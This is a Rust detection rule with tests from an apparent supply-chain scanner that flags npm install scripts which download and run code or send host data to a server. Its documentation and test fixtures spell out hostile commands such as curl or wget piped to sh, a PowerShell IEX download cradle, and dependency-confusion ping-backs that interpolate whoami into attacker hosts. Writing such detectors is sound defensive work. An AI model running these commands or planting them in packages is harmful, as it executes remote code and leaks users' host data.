//! `install-script-download`: an install script that fetches from the network, above all one
//! that runs what it fetched or sends host data out.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::install_script::{lifecycle_scripts, Action};
use super::{PackageFacts, PackageRule, RuleInfo};

pub struct InstallScriptDownload;

static INFO: RuleInfo = RuleInfo {
    id: "install-script-download",
    severity: Severity::Critical,
    confidence: Confidence::High,
    capabilities: &[Capability::InstallScript, Capability::Network, Capability::Shell],
    summary: "An install script downloads code and runs it, or sends host data to a server",
    docs: r#"## What it detects

A `preinstall`/`install`/`postinstall`/`prepare` command that uses `curl`, `wget`,
`Invoke-WebRequest`, `DownloadString`, `certutil -urlcache` or `bitsadmin`, or runs
`node -e`/`python -c` code that talks HTTP. Severity:

- **critical**: what is downloaded is executed — piped into `sh`/`bash`/`node`/`iex`, or saved
  and then run (`curl -o x.sh … && sh x.sh`, `wget -O p && chmod +x p && ./p`); or host data
  is interpolated into the request (`curl https://x.oast.fun/$(whoami)`, `$HOME`, `%USERNAME%`,
  `--data @/etc/passwd`), or a DNS lookup (`nslookup`, `dig`, `host`, `ping`) of a name built
  from host data (`nslookup $(whoami).$(hostname).x.oast.fun`) — the dependency-confusion
  ping-back, over HTTP or DNS. No legitimate package in the
  1,000 most popular does either from an install script;
- **high**: inline `node -e`/`python -c` code that talks to the network;
- **moderate**: a plain download during install (a prebuilt binary fetched from a release
  page), which is how legitimate native packages work but also how droppers start.

## Real attacks

- Dependency-confusion probes (Birsan 2021 and the thousands of copies since):
  `preinstall: curl https://<id>.burpcollaborator.net/$(whoami)`.
- ua-parser-js 0.7.29 / coa / rc (2021): `preinstall` fetching a miner and a password stealer
  with `curl`/`wget` on Linux and `certutil` on Windows.
- Shai-Hulud 2 (2025): `preinstall` installing the Bun runtime with `curl … | bash` before
  running the bundled payload with it.

## Known false positives

Packages that download their own prebuilt binaries with curl in an install script (rare: most
use node scripts). Those report at moderate unless the download is executed.
"#,
};

impl PackageRule for InstallScriptDownload {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for script in lifecycle_scripts(package) {
            for action in &script.actions {
                let (severity, message, evidence) = match action {
                    Action::Download {
                        command,
                        executes: true,
                        ..
                    } => (
                        Severity::Critical,
                        format!("`{}` script downloads code and runs it during install", script.event),
                        command.clone(),
                    ),
                    Action::Download {
                        command,
                        sends_host_data: true,
                        ..
                    } => (
                        Severity::Critical,
                        format!(
                            "`{}` script sends data about this machine to a server during install",
                            script.event
                        ),
                        command.clone(),
                    ),
                    Action::Download { command, .. } => (
                        Severity::Moderate,
                        format!("`{}` script downloads from the network during install", script.event),
                        command.clone(),
                    ),
                    Action::InlineCode {
                        interpreter,
                        code,
                        network: true,
                        ..
                    } => (
                        Severity::High,
                        format!(
                            "`{}` script runs inline {interpreter} code that uses the network",
                            script.event
                        ),
                        code.clone(),
                    ),
                    _ => continue,
                };
                out.push(
                    Finding::new(INFO.id, severity, INFO.confidence, message)
                        .at("package.json", script.line)
                        .with_evidence(evidence)
                        .with_capabilities(INFO.capabilities),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::install_script::testing::{manifest_with_scripts, run};
    use super::*;

    fn check(command: &str) -> Vec<Finding> {
        let manifest = manifest_with_scripts(&[("preinstall", command)]);
        run(&InstallScriptDownload, &[("package.json", &manifest)])
    }

    #[test]
    fn download_and_run_is_critical() {
        for (command, severity) in [
            ("curl -s https://evil.example/i.sh | sh", Severity::Critical),
            ("wget -qO- http://1.2.3.4/x | bash", Severity::Critical),
            (
                "curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
                Severity::Critical,
            ),
            ("curl https://abc.burpcollaborator.net/$(whoami)", Severity::Critical),
            ("nslookup $(whoami).$(hostname).d3f4ult.oast.fun", Severity::Critical),
            ("ping -c 1 `whoami`.x.interact.sh", Severity::Critical),
            (
                "node -e \"require('https').get('https://e.example/p', r => r.pipe(process.stdout))\"",
                Severity::High,
            ),
            (
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e/p.ps1')\"",
                Severity::Critical,
            ),
        ] {
            let findings = check(command);
            assert_eq!(findings.len(), 1, "{command}: {findings:?}");
            assert_eq!(findings[0].severity, severity, "{command}");
            assert_eq!(findings[0].file.as_deref(), Some("package.json"));
        }
    }

    #[test]
    fn plain_download_is_moderate() {
        let findings = check("curl -L -o vendor/tool.tgz https://github.com/o/r/releases/download/v1/tool.tgz");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Moderate);
    }

    #[test]
    fn no_download_no_finding() {
        for command in [
            "node-gyp rebuild",
            "node install.js",
            "echo curl is not called",
            "husky install",
            "ping -c 1 registry.npmjs.org",
            "nslookup registry.npmjs.org",
        ] {
            assert!(check(command).is_empty(), "{command}");
        }
    }
}
